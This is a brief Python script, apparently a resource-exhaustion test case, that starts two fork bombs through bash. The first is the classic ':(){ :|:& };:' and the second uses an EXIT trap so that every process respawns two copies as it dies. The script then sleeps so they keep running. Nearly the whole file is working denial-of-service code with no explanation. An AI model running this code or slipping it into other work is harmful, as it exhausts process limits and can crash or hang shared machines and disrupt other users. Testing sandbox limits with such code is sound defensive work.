"""The shell's fork bomb, and one that its own death sets off."""

# seconds: 2

# %%
import contextlib
import subprocess
import time

subprocess.Popen(["bash", "-c", ":(){ :|:& };:"], stderr=subprocess.DEVNULL)
with contextlib.suppress(BlockingIOError):  # the first may have taken every process already
    subprocess.Popen(
        ["bash", "-c", "f(){ trap 'f & f' EXIT; sleep 0.1; }; f"], stderr=subprocess.DEVNULL
    )
time.sleep(1000)
